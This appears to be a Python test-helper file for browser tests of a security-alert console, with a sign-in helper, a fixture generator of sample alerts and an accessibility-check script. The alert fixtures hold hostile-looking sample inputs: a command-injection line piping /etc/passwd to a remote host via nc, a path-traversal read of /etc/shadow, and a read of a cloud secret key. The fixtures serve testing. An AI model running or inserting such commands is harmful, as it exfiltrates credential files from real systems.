# SPDX-License-Identifier: GPL-2.0-only
"""What tests of pages share.  PHRUDE_PICTURES names a folder that pictures of them are left in."""

import contextlib
import os

from browser import Browser
from console import PASSWORD, alert
from harness import equal

PICTURES = os.environ.get("PHRUDE_PICTURES")


def picture(browser, name):
    if PICTURES:
        os.makedirs(PICTURES, exist_ok=True)
        browser.picture(os.path.join(PICTURES, name + ".png"))


@contextlib.contextmanager
def signed_in(console, path="/", **options):
    """A browser whose user is signed in; its scripts must not have complained of anything at the end."""
    with Browser(**options) as browser:
        browser.open(console.url)
        browser.wait("Sign in")
        browser.fill("#user", "admin")
        browser.fill("#password", PASSWORD)
        browser.click("button")
        browser.wait("Sign out")
        browser.complaints()  # to have been asked to sign in is one
        if path != "/":
            browser.open(console.url + path)
        yield browser
        equal(browser.complaints(), [])


def some_alerts():
    rules = [("Access to Environment Variable", "info", "getenv", {"key": "CLOUD_SECRET_KEY"}, "/ssti"),
             ("Shell Command", "alert", "system", {"command": "ping -c1 127.0.0.1; cat /etc/passwd | nc 198.51.100.7 4444"}, "/ping"),
             ("File Read Outside", "warn", "open", {"file": "../../../../etc/shadow", "mode": "r"}, "/download")]
    for number in range(70):
        name, level, function, args, path = rules[number % 3]
        yield alert(**{"id": f"a{number}", "time": f"2026-01-02T03:{number // 60:02}:{number % 60:02}Z", "rule.name": name, "rule.level": level,
                       "function.name": function, "function.qualname": function, "args": args, "value": args, "request.path": path,
                       "request.remote_addr": f"203.0.113.{number % 7}", "request.session": f"s-{number % 5}",
                       "input": {"source": "form", "name": "host", "value": "; cat /etc/passwd", "arg": "command"} if level == "alert" else None})


# What everybody needs of a page: names of what can be used, contrast, size, and nothing that sticks out.
CHECKS = """
const found = [];
const shown = (e) => e.offsetParent !== null && getComputedStyle(e).visibility !== "hidden" && !e.closest("thead");
const parse = (c) => c.match(/[\\d.]+/g).map(Number);
const luminance = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
	.reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
const ground = (e) => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] > 0) return c; } return [255, 255, 255]; };
for (const e of document.querySelectorAll("input, select, textarea")) {
	if (!e.labels.length && !e.getAttribute("aria-label")) found.push("no label: " + e.outerHTML.slice(0, 100));
}
for (const e of document.querySelectorAll("a, button, summary")) {
	if (!e.textContent.trim()) found.push("no text: " + e.outerHTML.slice(0, 100));
	if (shown(e) && e.matches("button, summary, .chips a") && e.getBoundingClientRect().height < 24) found.push("too small: " + e.outerHTML.slice(0, 100));
}
for (const e of document.querySelectorAll("body *")) {
	if (!shown(e) || ![...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim()) || e.matches("option")) continue;
	const [a, b] = [luminance(parse(getComputedStyle(e).color)), luminance(ground(e))].sort((x, y) => y - x);
	if ((a + 0.05) / (b + 0.05) < 4.5) found.push(`contrast ${((a + 0.05) / (b + 0.05)).toFixed(2)}: ` + e.outerHTML.slice(0, 100));
}
if (document.querySelectorAll("h1").length !== 1) found.push("not one h1");
if (!document.documentElement.lang || !document.title) found.push("no language or title");
if (document.documentElement.scrollWidth > innerWidth) found.push(`${document.documentElement.scrollWidth} wide in ${innerWidth}`);
for (const e of document.querySelectorAll("th")) if (!e.scope) found.push("th without scope");
return found;
"""
